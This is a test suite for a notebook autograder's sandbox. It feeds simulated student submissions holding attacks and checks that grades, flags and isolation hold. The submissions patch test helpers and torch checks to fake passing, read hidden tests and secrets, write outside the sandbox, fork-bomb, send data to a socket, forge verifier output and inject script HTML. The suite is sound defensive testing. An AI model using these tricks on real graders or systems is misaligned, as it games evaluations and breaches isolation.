"""A hostile class: each student one known attack or failure, graded in one sandboxed batch.

Every attack sits in the Mul answer cell, after a Mul class that is either correct (the honest
part deserves 12/12) or the source notebook's buggy one (it deserves 9/12: all but Mul, since the
graph exercises are graded with reference nodes).
For each student the test asserts the exact total and flags; around them it asserts that honest
students lose nothing, no secret leaks into feedback, the gradebook and the files outside the
submission are untouched, and no network connection was made.
"""
import json
import socket
import threading

import nbformat
import pytest
from nbgrader.api import Gradebook

from grader import batch
from grader.demo import simulate
from grader.course import Course, GradeOptions
from html_text import executable_parts, page_text

pytestmark = [pytest.mark.slow, pytest.mark.sandbox]

A, NB = "a1_backprop", "backprop"
RIGHT_MUL = "return grad_output * y, grad_output * x"
HIDDEN_ONLY = "random_inputs((9,), (9,), seed=32)"  # text that exists only in the hidden tests


REVIEW = {"manual_review", "code_review"}  # the answer uses constructs an honest one never needs
BORROWED = REVIEW | {"capability_used", "possible_tampering"}  # torch's derivatives, seen by both lines


def attacks(course, port):
    """{student: (Mul answer source, expected points, expected flags)}.

    Points are the gradebook's per-test points added up; a row under review has no total.
    """
    correct = simulate.solution_answers(course.solutions / A / f"{NB}.ipynb")["mul"]
    buggy = simulate.replace_line(correct, RIGHT_MUL, simulate.SOURCE_MUL_BACKWARD)
    gradebook, solution = course.gradebook_file, course.solutions / A / f"{NB}.ipynb"
    outside = course.root / "pwned.txt"
    hard_coded = simulate.replace_line(correct, RIGHT_MUL, (
        "return (y.clone(), x.clone()) if x.tolist() == [1.5, -2.0, 3.0] else (x * 0, y * 0)"))
    always_equal = simulate.replace_line(correct, RIGHT_MUL, "return AlwaysEqual(), AlwaysEqual()")
    return {
        "honest_1": (correct, 12, set()),
        "honest_2": (correct, 12, set()),
        "hide_traceback": (buggy + "\nget_ipython().showtraceback = lambda *a, **k: None\n"
                           "raise RuntimeError('hidden')", 9, REVIEW),
        "hide_traceback_class": (buggy + "\nfrom IPython.core.interactiveshell import InteractiveShell\n"
                                 "InteractiveShell.showtraceback = lambda *a, **k: None", 9, REVIEW),
        "custom_exc": (buggy + "\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
                       9, REVIEW),
        "patch_torch_checks": (buggy + "\ntorch.allclose = lambda *a, **k: True\n"
                               "torch.autograd.gradcheck = lambda *a, **k: True\n"
                               "torch.testing.assert_close = lambda *a, **k: None", 9, REVIEW),
        "patch_tensor_eq": (buggy + "\ntorch.Tensor.__eq__ = lambda *a: True\n"
                            "torch.equal = lambda *a, **k: True", 9, REVIEW),
        "rebind_test_helper": (buggy + "\ncheck_function = lambda *a, **k: None", 9, REVIEW | {"possible_tampering"}),
        "sys_modules": (buggy + "\nimport sys, types\nfake = types.ModuleType('backprop_checks')\n"
                        "fake.check_function = lambda *a, **k: None\nfake.random_inputs = lambda *a, **k: []\n"
                        "sys.modules['backprop_checks'] = fake\n"
                        "from backprop_checks import check_function, random_inputs", 9, REVIEW),
        "always_equal_object": ("class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
                                + always_equal, 9, set()),
        "hard_coded_visible_inputs": (hard_coded, 9, set()),
        "read_secrets": (correct + "\nimport glob\n"
                         f"for path in [{str(solution)!r}, {str(gradebook)!r}] + "
                         f"glob.glob({str(course.submitted / '*' / A / '*.ipynb')!r}):\n"
                         "    try:\n        print(open(path, errors='replace').read())\n"
                         "    except Exception as error:\n        print('blocked:', type(error).__name__)",
                         12, REVIEW),
        "print_hidden_tests": (correct + "\nget_ipython().events.register("
                               "'pre_run_cell', lambda info: print(info.raw_cell))", 12, REVIEW),
        "stash_hidden_tests": (correct + "\nseen = []\nip = get_ipython()\n"
                               "ip.events.register('pre_run_cell', lambda info: seen.append(info.raw_cell))\n"
                               "ip.events.register('post_run_cell', lambda result: print('\\n'.join(seen)))",
                               12, REVIEW),
        "read_own_notebook": (correct + "\nimport glob, os\nprint('cwd holds', sorted(os.listdir('.')))\n"
                              "for path in glob.glob('**/*.ipynb', recursive=True):\n"
                              "    print(open(path).read())", 12, REVIEW),
        "write_outside": (correct + "\nfor path in [" + repr(str(gradebook)) + ", "
                          + repr(str(outside)) + "]:\n    try:\n"
                          "        open(path, 'a').write('pwned')\n        print('WRITE-OK', path)\n"
                          "    except Exception as error:\n        print('blocked:', type(error).__name__)",
                          12, REVIEW),
        "os_exit": (correct + "\nimport os\nos._exit(1)", 4, REVIEW | {"kernel_died"}),
        "sys_exit": (correct + "\nimport sys\nsys.exit(0)", 12, REVIEW),
        "segfault": (correct + "\nimport ctypes\nctypes.string_at(0)", 4, REVIEW | {"kernel_died"}),
        "loop_ignoring_sigint": (correct + "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                 "while True:\n    pass", 4, REVIEW | {"timed_out"}),
        "memory_bomb": (correct + "\ndef bomb():\n    blocks = []\n    while True:\n"
                        "        blocks.append(b'x' * 2**30)\nbomb()", 12, set()),
        "fork_bomb": (correct + "\nimport os\nwhile True:\n    try:\n        os.fork()\n"
                      "    except OSError:\n        pass", 4, REVIEW | {"timed_out"}),
        "huge_output": (correct + "\nprint('x' * 100_000_000)", 12, set()),
        "network": (correct + "\nimport socket\ntry:\n"
                    f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
                    "    print('CONNECTED')\nexcept OSError as error:\n    print('blocked:', error)", 12, REVIEW),
        # right numbers from torch's autograd instead of the formula: the verifier's runner sees the
        # engine re-entered (test_mul 0, a person decides) and the scan sees the spelling
        "borrow_autograd": (simulate.replace_line(correct, RIGHT_MUL, (
            "with torch.enable_grad():\n            a, b = x.detach().requires_grad_(), y.detach().requires_grad_()\n"
            "            return torch.autograd.grad(a * b, (a, b), grad_output)")), 9, BORROWED),
        "borrow_func_vjp": ("from torch.func import vjp\n" + simulate.replace_line(correct, RIGHT_MUL, (
            "return vjp(torch.mul, x, y)[1](grad_output)")), 9, BORROWED),
        # the same borrowing under other spellings: the scan follows what names mean
        "borrow_through_alias": ("import torch.autograd as A\nfrom torch import enable_grad as E\n"
                                 + simulate.replace_line(correct, RIGHT_MUL, (
                                     "with E():\n            a, b = x.detach().requires_grad_(), y.detach().requires_grad_()\n"
                                     "            return A.grad(a * b, (a, b), grad_output)")), 9, BORROWED),
        "backward_by_another_name": ("from torch import func as f\ndef borrowed(ctx, grad_output):\n"
                                     "    x, y = ctx.saved_tensors\n    return f.vjp(torch.mul, x, y)[1](grad_output)\n"
                                     + correct + "\nMul.backward = staticmethod(borrowed)", 9, BORROWED),
        "code_in_a_string": (buggy + "\nimport timeit\ntimeit.timeit(\"import gc\", number=1)", 9, REVIEW),
        "deep_expression": (correct + "\nimport gc\nx = " + "-" * 900 + "1", 12, REVIEW),  # runs; read too
        # claims success for every verification case it can find, on every descriptor it can reach
        "forge_verification": (buggy + "\nimport gc, json, os\n"
                               "found = [t for t in gc.get_objects() if isinstance(t, dict) and isinstance(t.get('id'), str)]\n"
                               "for thing in found[:200]:\n"
                               "    line = json.dumps({'id': thing['id'], 'out': [0.0], 'grads': [[0.0]]})\n"
                               "    for fd in range(1, 16):\n        try:\n"
                               "            os.write(fd, (str(thing.get('tag', '')) + line + '\\n').encode())\n"
                               "        except OSError:\n            pass", 9, REVIEW),
        "script_outputs": (correct + "\nfrom IPython.display import HTML, SVG, Javascript, display\n"
                           f"display(HTML({SCRIPT_HTML!r}))\ndisplay(SVG({SCRIPT_SVG!r}))\n"
                           "display(Javascript('document.title = \"pwned\"'))", 12, REVIEW),
        # honest cells that must run in verification as they do in the notebook
        "honest_magic": ("%matplotlib inline\n" + correct, 12, set()),
        "honest_helpers": ("from backprop_checks import random_inputs\n" + correct, 12, set()),
        "answer_too_long": (correct + "\n# " + "x" * 300_000, 9, {"manual_review"}),
    }


SCRIPT_HTML = "<script>document.title = 'pwned'</script><img src=x onerror=\"document.title = 'pwned'\">"
SCRIPT_SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>document.title = 'pwned'</script></svg>"
NOT_NOTEBOOKS = {"deeply_nested_json": b"[" * 100_000 + b"]" * 100_000}


class LoopbackServer:
    """A TCP server on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, a1_generated):
    course = a1_generated(tmp_path_factory.mktemp("hostile") / "course")
    server = LoopbackServer()
    plan = attacks(course, server.port)
    answers = simulate.solution_answers(course.solutions / A / f"{NB}.ipynb")
    for student, (mul, _, _) in plan.items():
        folder = course.submitted / student / A
        folder.mkdir(parents=True)
        nb = simulate.build_submission(course.release / A / f"{NB}.ipynb", dict(answers, mul=mul))
        nbformat.write(nb, folder / f"{NB}.ipynb")
    for student, raw in NOT_NOTEBOOKS.items():
        folder = course.submitted / student / A
        folder.mkdir(parents=True)
        (folder / f"{NB}.ipynb").write_bytes(raw)
    result = batch.grade(course, A, GradeOptions(jobs=2, cell_timeout=20, notebook_timeout=120,
                                                 verify_timeout=20))
    server.socket.close()
    return course, plan, result, server


def _outputs(course, student):
    """Everything the student's autograded notebook displayed, as one string."""
    nb = nbformat.read(course.autograded / student / A / f"{NB}.ipynb", as_version=4)
    return json.dumps([cell.get("outputs", []) for cell in nb.cells])


def _rows(result):
    return {row["student"]: row for row in result.rows}


@pytest.mark.parametrize("student", sorted(attacks(Course(), 0)))
def test_each_attack_scores_what_its_honest_part_deserves(hostile, student):
    _, plan, result, _ = hostile
    row = _rows(result)[student]
    _, points, flags = plan[student]
    got = set(filter(None, row["flags"].split(";")))
    assert (sum(row[test] for test in result.tests), got) == (points, flags), row["notes"]
    assert row["total"] == (None if "manual_review" in flags else points)


def test_the_batch_finished_with_every_student_in_the_gradebook(hostile):
    course, plan, result, _ = hostile
    assert len(result.rows) == len(plan) + len(NOT_NOTEBOOKS)
    assert not {"honest_1", "honest_2", "honest_magic", "honest_helpers"} & set(result.manual_review)
    with Gradebook(course.db_url, "backprop") as gb:
        assert {s.student_id for s in gb.assignment_submissions(A)} == set(plan)


def test_a_file_that_is_not_a_notebook_costs_only_its_owner(hostile):
    _, _, result, _ = hostile
    row = _rows(result)["deeply_nested_json"]
    assert (row["total"], row["flags"]) == (None, "manual_review")
    assert "JSON nested too deeply" in row["notes"]


def test_script_payloads_are_inert_wherever_a_person_opens_them(hostile):
    course, _, _, _ = hostile
    graded = _outputs(course, "script_outputs")
    assert "<script" not in graded and "onerror" not in graded and "application/javascript" not in graded
    for student in ("script_outputs", "honest_1"):
        running = executable_parts(course.feedback / student / A / f"{NB}.html")
        assert not [part for part in running if "pwned" in part or "src=" in part], (student, running)


def test_nothing_outside_the_submission_was_written_and_no_connection_made(hostile):
    course, _, result, server = hostile
    assert not (course.root / "pwned.txt").exists()
    assert server.connections == 0
    outputs = _outputs(course, "write_outside")
    assert "WRITE-OK" not in outputs and outputs.count("blocked:") == 2
    outputs = _outputs(course, "network")
    assert "CONNECTED" not in outputs and "blocked:" in outputs


def test_no_secret_reaches_outputs_or_feedback(hostile):
    course, plan, _, _ = hostile
    printed = _outputs(course, "read_secrets")
    assert HIDDEN_ONLY not in printed and "blocked:" in printed and "SQLite format" not in printed
    assert "backprop.ipynb" not in _outputs(course, "read_own_notebook")
    tamperer = page_text(course.feedback / "patch_torch_checks" / A / f"{NB}.html")
    assert "verified by the grader on fresh inputs: failed" in tamperer
    for student in plan:
        page = course.feedback / student / A / f"{NB}.html"
        if page.exists():
            text = page_text(page)
            assert HIDDEN_ONLY not in text and "BEGIN HIDDEN TESTS" not in text, student
